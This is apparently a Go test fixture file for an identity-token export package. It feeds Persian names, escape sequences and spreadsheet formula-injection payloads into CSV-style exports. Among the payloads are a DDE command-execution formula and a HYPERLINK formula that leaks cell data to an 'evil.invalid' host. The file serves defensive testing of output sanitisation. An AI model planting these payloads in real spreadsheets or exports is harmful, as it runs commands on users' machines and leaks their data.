package export_test

import (
	"strings"
	"time"

	"authdeck/client/demo"
	"authdeck/client/export"
	"authdeck/model"
	"authdeck/model/review"
)

func moment() review.Moment {
	return review.Moment{Now: time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC), Limits: review.Usual()}
}

func info() model.Info {
	return model.Info{Name: "id-prod", Kind: "authentik", Silent: []string{"note", "mobile", "owner_email"}}
}

func of() export.Of { return export.Of{Systems: []model.Info{info()}, At: moment()} }

// formulas are what spreadsheets run, or may take for that.
func formulas() []string {
	return []string{
		`=cmd|'/C calc'!A0`, "+1+1", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "'=1", "''=1", "＝1+1", "  =1", "x;=1", "؛ @x", ";'-1;+", `"=1`, `;"=1+1;x`,
		`=HYPERLINK("http://evil.invalid?"&A1,"x")`, "a=b", "a - b", "' ", "-", "",
	}
}

// tokens are hostile, formulas, Persian, and of every knowledge of a moment.
func tokens() []model.Token {
	at := func(day int) model.When { return model.At(time.Date(2025, 1, day, 8, 30, 0, 999, time.UTC)) }
	fine := model.Token{
		ID: "1140", Name: model.Clean("ci-deploy"), Kind: model.Clean("api"), Scope: model.Clean("read"), State: model.Active,
		Owner:   model.User{ID: "7", Username: model.Clean("ali"), FullName: model.Clean("علی کریمی"), Email: model.Clean("ali@example.com"), Active: model.Yes},
		Created: model.At(moment().Now.AddDate(0, -1, 0)), LastUsed: model.At(moment().Now.Add(-time.Hour)), Expires: model.At(moment().Now.AddDate(0, 1, 0)),
		Description: model.Clean("two\nlines, a \"quote\" and امیر\u200cحسین"), Managed: model.Clean("goauthentik.io/outposts"),
	}
	never, over, nothing := fine, fine, model.Token{ID: "x\x1b[2J"}
	never.ID, never.Own, never.Owner.Active, never.App = "2", true, model.No, model.Clean("Portal")
	never.Created, never.Expires, never.LastUsed, never.Updated = at(1), model.Not(model.Never), model.Not(model.Never), model.Not(model.NotApplicable)
	over.ID, over.State, over.Expires = "3", model.Expired, at(2)
	all := []model.Token{fine, never, over, nothing}
	for _, foreign := range append(demo.Hostile(), formulas()...) {
		all = append(all, model.Token{ID: "9", Name: model.Clean(foreign), Owner: model.User{Username: model.Clean(foreign)}})
	}
	return all
}

func users() []model.User {
	all := []model.User{
		{
			ID: "7", Username: model.Clean("ali"), FullName: model.Clean("علی کریمی"), Email: model.Clean("ali@example.com"), Mobile: model.Clean("+989121234567"),
			Active: model.Yes, Staff: model.No, Admin: model.Yes, HasToken: model.Yes, TokenWord: model.Clean("2 of 3"), Kind: model.Clean("ldap"),
			Role: model.Clean("auditor"), LastLogin: model.At(moment().Now), Created: model.Not(model.NotApplicable),
		},
		{ID: "8", LastLogin: model.Not(model.Never)},
	}
	for _, foreign := range demo.Hostile() {
		all = append(all, model.User{ID: "9", Username: model.Clean("u"), FullName: model.Clean(foreign)})
	}
	return all
}

// written are tokens in a format.
func written(as model.Format, tokens ...model.Token) string { return writtenOf(of(), as, tokens...) }

// writtenTied are the tokens of a person.
func writtenTied(as model.Format, tokens ...model.Token) string {
	tied := of()
	tied.Tie = func(_ string, account model.User) (string, model.Answer) {
		return "user name only as in " + account.Username.String(), account.Active
	}
	return writtenOf(tied, as, tokens...)
}

func writtenOf(of export.Of, as model.Format, tokens ...model.Token) string {
	var out strings.Builder
	w, err := export.Tokens(&out, model.Export{Format: as}, of)
	for i := range tokens {
		if err == nil {
			err = w.Row(&tokens[i])
		}
	}
	if err == nil {
		err = w.End(model.Exported{})
	}
	if err != nil {
		return err.Error()
	}
	return out.String()
}

// writtenUsers are users in a format.
func writtenUsers(as model.Format, users ...model.User) string {
	var out strings.Builder
	w, err := export.Users(&out, model.Export{Format: as}, of())
	for i := range users {
		if err == nil {
			err = w.Row(&users[i])
		}
	}
	if err == nil {
		err = w.End(model.Exported{})
	}
	if err != nil {
		return err.Error()
	}
	return out.String()
}
